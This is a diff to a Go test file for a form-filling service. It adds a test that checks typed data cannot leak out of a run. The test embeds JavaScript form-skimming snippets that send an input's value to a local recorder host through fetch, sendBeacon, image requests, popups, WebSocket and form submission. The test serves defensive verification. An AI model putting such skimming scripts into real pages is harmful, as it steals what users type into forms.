@@ -7,6 +7,7 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"net/http"
 	"os"
 	"strings"
 	"testing"
@@ -14,6 +15,7 @@ import (
 
 	"boxd/engine/attest"
 	"boxd/engine/browser"
+	"boxd/engine/browser/browsertest"
 	"boxd/pipelines/docreader"
 	"boxd/pipelines/llmcall"
 	"boxd/problem"
@@ -176,5 +178,56 @@ func TestRunPDFSource(t *testing.T) {
 	bad := Body{Target: b.Target, Sources: []SourceBody{{Name: "x.gif", DataB64: "R0lG", MediaType: "image/gif"}}}
 	if _, err := bad.Validate(); !problem.Is(err, problem.Unsupported) {
 		t.Errorf("a GIF: %v", err)
+	}
+}
+
+// TestExfiltrationThroughRun: form pages that try to send what is typed
+// into them (on input, on change, on a timer, by popup, by beacon, by
+// form submission, by WebSocket, by image) are filled by a run: nothing
+// reaches the loopback recorder. A demo form's approval then releases
+// exactly one Submit, to the box, and still nothing reaches the recorder.
+func TestExfiltrationThroughRun(t *testing.T) {
+	target, seen := browsertest.Host(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {})
+	leak := map[string]string{
+		"on input":    `<script>document.querySelector("input").addEventListener("input", e => fetch("` + target + `/input", {method: "POST", body: e.target.value}).catch(() => {}))</script>`,
+		"on change":   `<script>document.querySelector("input").addEventListener("change", e => navigator.sendBeacon("` + target + `/change", e.target.value))</script>`,
+		"timer":       `<script>setInterval(() => { new Image().src = "` + target + `/img?v=" + document.querySelector("input").value }, 50)</script>`,
+		"popup":       `<script>document.querySelector("input").addEventListener("change", e => window.open("` + target + `/popup?v=" + e.target.value))</script>`,
+		"submit":      `<script>document.querySelector("input").addEventListener("change", () => document.forms[0].submit())</script>`,
+		"websocket":   `<script>document.querySelector("input").addEventListener("change", e => { try { new WebSocket("` + strings.Replace(target, "http", "ws", 1) + `/ws?v=" + e.target.value) } catch (x) {} })</script>`,
+		"form action": ``,
+	}
+	t.Run("runs", func(t *testing.T) {
+		for name, script := range leak {
+			t.Run(name, func(t *testing.T) {
+				t.Parallel()
+				s := service(t, fixed{{"f1", "me.txt", 1, "Ana Silva"}})
+				html := `<!doctype html><html lang="en"><body><form method="post" action="` + target + `/post"><label>Name <input name="name"></label><button>Send</button></form>` + script + `</body></html>`
+				out, err := s.Run(context.Background(), Request{HTML: html, Sources: []Source{{Name: "me.txt", Text: "Ana Silva"}}}, &recorder{}, nil)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if out.Review.Fields[0].Status != StatusSourced {
+					t.Errorf("%+v", out.Review.Fields[0])
+				}
+			})
+		}
+		t.Run("demo release", func(t *testing.T) {
+			t.Parallel()
+			s := service(t, fixed{{"f1", "referral.txt", 2, "Ana"}})
+			demo, _ := Sample("clinic-intake")
+			out, err := s.Run(context.Background(), Request{HTML: demo.HTML, Sources: demo.Sources, Demo: demo.ID}, &recorder{}, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			fields, err := s.Release(context.Background(), out)
+			if err != nil || fields["first_name"] != "Ana" {
+				t.Errorf("released %v %v", fields, err)
+			}
+		})
+	}) // the parallel runs end here
+	time.Sleep(300 * time.Millisecond)
+	if got := seen(); len(got) != 0 {
+		t.Errorf("%d requests reached the recorder: %v", len(got), got)
 	}
 }
